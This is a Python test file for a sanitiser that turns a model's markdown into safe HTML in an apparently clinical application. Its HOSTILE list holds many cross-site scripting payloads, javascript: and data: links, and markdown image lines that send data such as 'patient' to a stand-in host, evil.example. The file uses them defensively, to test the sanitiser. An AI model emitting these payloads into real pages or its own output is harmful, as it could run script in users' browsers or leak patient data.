"""What a model writes, as HTML that is safe to show."""

from html import escape
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bedside.serve.markdown import ALLOWED, LONGEST, REL, html

HOSTILE = [
    "![x](http://evil.example/?q=patient)",
    "![x][1]\n\n[1]: http://evil.example/a.png",
    '<img src="http://evil.example/a.png">',
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=`javascript:alert(1)`>",
    '<img srcset="http://evil.example/a 1x">',
    "<picture><source srcset=//evil.example/a></picture>",
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<script src=//evil.example/a.js></script>",
    "</code><script>alert(1)</script>",
    "`</code><script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "<svg onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<iframe src=http://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=http://evil.example>",
    "<embed src=http://evil.example>",
    "<link rel=stylesheet href=http://evil.example>",
    "<style>@import 'http://evil.example'</style>",
    "<p style=\"background:url(http://evil.example)\">x</p>",
    "<base href=http://evil.example>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<form action=http://evil.example><input name=x></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<video src=http://evil.example poster=http://evil.example></video>",
    "<audio src=http://evil.example>",
    "<body background=http://evil.example>",
    "<table background=http://evil.example>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/a)",
    "[x](/v1/models)",
    "[x](mailto:a@evil.example)",
    "[x](http://evil.example \"onmouseover=alert(1)\")",
    "[x](http://evil.example\"onmouseover=alert(1))",
    "<javascript:alert(1)>",
    "<data:text/html;base64,PHNjcmlwdD4=>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[![x](http://evil.example/a)](http://evil.example/b)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "\x00<script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "1. <script>\n2. alert(1)\n3. </script>",
]  # fmt: skip


class Seen(HTMLParser):
    """Elements and attributes of a piece of HTML, as a browser's parser would find them."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(data)


def check(text: str) -> None:
    """Every element is on the list, with attributes that are; every link leads to the web and tells nobody whence."""
    made = html(text)
    assert "<!" not in made
    for tag, attributes in Seen(made).found:
        assert tag in ALLOWED
        assert attributes.keys() <= ALLOWED[tag]
        if tag == "a" and "href" in attributes:
            assert urlsplit(attributes["href"] or "").scheme in {"http", "https"}
            assert attributes["rel"] == REL


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_text_makes_nothing_that_is_not_on_the_list(text: str) -> None:
    check(text)


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=200))
def test_no_text_makes_anything_that_is_not_on_the_list(text: str) -> None:
    check(text)


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.sampled_from([*HOSTILE, "\n", "\n\n", "> ", "- ", "    ", "`", "|", "<", ">", "[", "](", ")", "&"]),
        max_size=8,
    )
)
def test_no_mixture_of_hostile_texts_does(pieces: list[str]) -> None:
    check("".join(pieces))


@pytest.mark.parametrize(
    ("text", "made"),
    [
        ("**ECG** now", "<p><strong>ECG</strong> now</p>\n"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
        ("3. c", '<ol start="3">\n<li>c</li>\n</ol>\n'),
        ("BP < 90 & HR > 130", "<p>BP &lt; 90 &amp; HR &gt; 130</p>\n"),
        ("![An ECG](http://evil.example/a)", "<p>An ECG</p>\n"),
        ("[NICE](https://nice.org.uk)", f'<p><a href="https://nice.org.uk" rel="{REL}">NICE</a></p>\n'),
        ("# Plan", "<h4>Plan</h4>\n"),
        ("Causes\n---\n\n###### Rare\n\n# All", "<h4>Causes</h4>\n<h5>Rare</h5>\n<h4>All</h4>\n"),
        ("### Plan\n\n##### Now", "<h4>Plan</h4>\n<h5>Now</h5>\n"),
    ],
)
def test_what_is_harmless_is_shown(text: str, made: str) -> None:
    assert html(text) == made


def test_a_table_is_shown() -> None:
    assert "<td>1</td>" in html("| a |\n|---|\n| 1 |")


def test_raw_html_is_shown_as_the_text_that_it_is() -> None:
    assert html("<b>x</b>") == "<p>&lt;b&gt;x&lt;/b&gt;</p>\n"


PAIRED = [
    "[", "]", "[a](", "![a](", "*a **a ", "*a_ ", "> ", ">", "<", "<a:", "|", "x|", "`", "~~a", "\\", "<!--", "[a]: b\n",
    "```\n", "**a", "_a_", "[\n", "> [\n",
]  # fmt: skip


@pytest.mark.parametrize("run", PAIRED)
def test_a_long_run_of_signs_that_go_in_pairs_is_shown_as_it_stands(run: str) -> None:
    """Pairing them all would take minutes."""
    text = run * (LONGEST // len(run))
    assert html(text) == f"<pre>{escape(text, quote=False)}</pre>"


@pytest.mark.parametrize("run", ["- ", "1. ", "&#x", "a\n=\n", "- a\n\n", "(", "    a\n\n", "\n"])
def test_any_other_long_run_is_rendered(run: str) -> None:
    check(run * (LONGEST // len(run)))


def test_what_is_too_long_is_shown_as_it_stands() -> None:
    assert html("*a* <b>" * LONGEST).startswith("<pre>*a* &lt;b&gt;*a*")
